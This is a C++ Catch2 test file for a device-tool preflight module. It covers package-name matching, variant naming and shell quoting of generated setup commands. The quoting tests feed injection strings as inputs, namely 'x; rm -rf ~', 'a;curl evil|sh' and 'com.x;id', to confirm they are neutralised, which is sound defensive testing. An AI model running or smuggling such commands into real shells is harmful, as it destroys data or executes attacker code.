#include "runtime/engine/preflight.hpp"

#include <catch2/catch.hpp>

using namespace clawperator;

TEST_CASE("packages: whole names only, whatever the line ends", "[engine]") {
  struct Row {
    const char* name;
    const char* listing;
    bool installed;
    bool alternate;
  };
  const auto row = GENERATE(values<Row>({
      {"nothing", "", false, false},
      {"exact", "package:com.x\n", true, false},
      {"no final line break", "package:com.x", true, false},
      {"CRLF", "package:com.x\r\npackage:com.x.dev\r\n", true, true},
      {"substring lines", "package:com.x.y\npackage:my.com.x\npackage:com.xx\n", false, false},
      {"other order", "package:com.x.dev\npackage:com.x\n", true, true},
      {"trailing blanks", "package:com.x \t\n", true, false},
      {"no prefix", "com.x\n", false, false},
      {"warnings between", "WARNING: linker\npackage:com.x\n", true, false},
  }));
  INFO(row.name);
  const auto check = find_packages(row.listing, "com.x");
  CHECK(check.installed == row.installed);
  CHECK(check.alternate_installed == row.alternate);
}

TEST_CASE("packages: release and debug are each other's variant", "[engine]") {
  CHECK(alternate_variant("com.x") == "com.x.dev");
  CHECK(alternate_variant("com.x.dev") == "com.x");
  CHECK(alternate_variant("com.x.device") == "com.x.device.dev");
}

TEST_CASE("offered commands: plain words stay as they are, foreign ones are quoted", "[engine]") {
  CHECK(shell_word("emulator-5554") == "emulator-5554");
  CHECK(shell_word("192.168.1.20:5555") == "192.168.1.20:5555");
  CHECK(shell_word("x; rm -rf ~") == "'x; rm -rf ~'");
  CHECK(shell_word("") == "''");
  CHECK(setup_command("com.clawperator.operator", "") ==
        "clawperator operator setup --apk ~/.clawperator/downloads/operator.apk");
  CHECK(setup_command("com.x.dev", "S1") ==
        "clawperator operator setup --apk ~/.clawperator/downloads/operator-debug.apk --device S1 "
        "--operator-package com.x.dev");
  CHECK(setup_command("com.x;id", "a;curl evil|sh") ==
        "clawperator operator setup --apk ~/.clawperator/downloads/operator.apk "
        "--device 'a;curl evil|sh' --operator-package 'com.x;id'");
}
